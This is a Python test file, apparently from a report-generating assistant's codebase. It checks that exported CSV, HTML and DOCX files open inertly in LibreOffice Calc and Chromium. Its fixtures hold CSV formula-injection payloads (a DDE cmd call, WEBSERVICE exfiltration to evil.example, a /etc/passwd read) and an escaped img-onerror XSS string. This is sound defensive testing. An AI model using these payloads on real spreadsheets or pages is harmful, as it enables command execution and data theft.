"""The files as the programs of their readers open them: a browser and an office suite, where these are installed."""

from __future__ import annotations

import shutil
import subprocess
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pypdf
import pytest

from assistant.record.csv_text import csv_cell, csv_lines
from assistant.record.inert import inert_line
from assistant.reports.as_docx import as_docx
from assistant.reports.as_html import as_html
from assistant.reports.briefing_page import briefing_document
from assistant.reports.document import Column, Document, Heading, Items, Paragraph, Table, TableRow
from tests.reports.records import HOSTILE
from tests.reports.test_briefing import NAMES, crowded

DAY = date(2020, 10, 18)
WEB, OFFICE = shutil.which("chromium"), shutil.which("soffice")
CALC = OFFICE if OFFICE and (Path(OFFICE).resolve().parent / "libsclo.so").exists() else None
"""The part of the suite that opens tables is a package of its own."""
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
PATIENCE = 120
"""Seconds."""


def hostile() -> Document:
    table = Table((Column("A", 30), Column("B", 70)), [TableRow((HOSTILE, "=1+1"))])
    return Document(HOSTILE, [Heading(HOSTILE), Paragraph(HOSTILE), Items((HOSTILE,)), table])


FORMULAS = (
    "=1+1", " =1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "=1+1\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1",
    '"=1+1"', ' "=1+1"', "x,=1+1", 'x",=1+1', "x;=1+1", '=HYPERLINK("http://evil.example";"open")', "=cmd|'/c calc'!A0",
    "'=1+1", '=WEBSERVICE("http://evil.example/"&A1)', "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "{=1+1}", HOSTILE,
)  # fmt: skip
"""Texts that a spreadsheet would like to run, in every way in which a cell may begin."""


def in_calc(place: Path, **files: str) -> dict[str, list[ElementTree.Element]]:
    """The cells of CSV files as LibreOffice Calc takes them in, told to evaluate what it can."""
    for name, text in files.items():
        (place / f"{name}.csv").write_bytes(text.encode("utf-8", "surrogatepass"))
    settings = f"-env:UserInstallation={(place / 'profile').as_uri()}"
    with_formulas = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true"
    command = [str(OFFICE), settings, "--headless", with_formulas, "--convert-to", "fods", "--outdir", str(place)]
    paths = [str(place / f"{name}.csv") for name in files]
    subprocess.run([*command, *paths], capture_output=True, check=True, timeout=PATIENCE)
    trees = {name: ElementTree.parse(place / f"{name}.fods") for name in files}  # noqa: S314 - written just now
    return {
        name: [cell for cell in tree.iter(f"{TABLE}table-cell") if f"{TABLE}number-columns-repeated" not in cell.attrib]
        for name, tree in trees.items()
    }


@pytest.mark.skipif(CALC is None, reason="needs LibreOffice Calc (libreoffice-calc-nogui)")
def test_a_spreadsheet_shows_hostile_text_and_evaluates_none_of_it(tmp_path: Path) -> None:
    rows = [{"text": text, "beside": "kept"} for text in FORMULAS]
    opened = in_calc(tmp_path, control="=1+1\n", rows="".join(csv_lines(rows, ("text", "beside"))))
    assert opened["control"][0].get(f"{TABLE}formula"), "this Calc evaluates nothing: the test shows nothing"
    cells = opened["rows"]
    assert [cell.get(f"{TABLE}formula") for cell in cells] == [None] * len(cells)
    assert not any("error" in str(cell.attrib) for cell in cells)
    shown = ["".join("".join(cell.itertext()).split()) for cell in cells]
    assert shown[3::2] == ["kept"] * len(FORMULAS)
    assert shown[2::2] == ["".join(csv_cell(text).split()) for text in FORMULAS]


def browser(place: Path, *arguments: str) -> str:
    profile = f"--user-data-dir={place / 'profile'}"
    command = [str(WEB), "--headless", "--no-sandbox", "--disable-gpu", profile, *arguments]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=PATIENCE).stdout


def words(path: Path) -> str:
    """The text of a PDF, without its line breaks and blanks."""
    return "".join("".join(page.extract_text() for page in pypdf.PdfReader(path).pages).split())


@pytest.mark.skipif(WEB is None, reason="needs chromium")
def test_a_browser_shows_hostile_text_and_prints_a_briefing_on_one_page(tmp_path: Path) -> None:
    page, brief = tmp_path / "hostile.html", tmp_path / "briefing.html"
    page.write_text("".join(as_html(hostile())), encoding="utf-8")
    brief.write_text("".join(as_html(briefing_document(crowded(), NAMES))), encoding="utf-8")
    shown = browser(tmp_path, "--dump-dom", page.as_uri())
    assert "<title>owned</title>" not in shown
    assert "<img" not in shown
    assert "&lt;img src=http://evil.example/x onerror=" in shown
    browser(tmp_path, "--no-pdf-header-footer", f"--print-to-pdf={tmp_path / 'b.pdf'}", brief.as_uri())
    assert len(pypdf.PdfReader(tmp_path / "b.pdf").pages) == 1
    assert "76more" in words(tmp_path / "b.pdf")


@pytest.mark.skipif(OFFICE is None, reason="needs LibreOffice")
def test_an_office_suite_shows_hostile_text_and_prints_a_briefing_on_one_page(tmp_path: Path) -> None:
    (tmp_path / "hostile.docx").write_bytes(as_docx(hostile(), DAY))
    (tmp_path / "briefing.docx").write_bytes(as_docx(briefing_document(crowded(), NAMES), DAY))
    files = [str(path) for path in sorted(tmp_path.iterdir())]
    settings = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [str(OFFICE), settings, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), *files]
    subprocess.run(command, capture_output=True, check=True, timeout=PATIENCE)
    assert words(tmp_path / "hostile.pdf").count("javascript:alert(1)") == 5
    assert "".join(inert_line(HOSTILE).split())[:60] in words(tmp_path / "hostile.pdf")
    assert len(pypdf.PdfReader(tmp_path / "briefing.pdf").pages) == 1
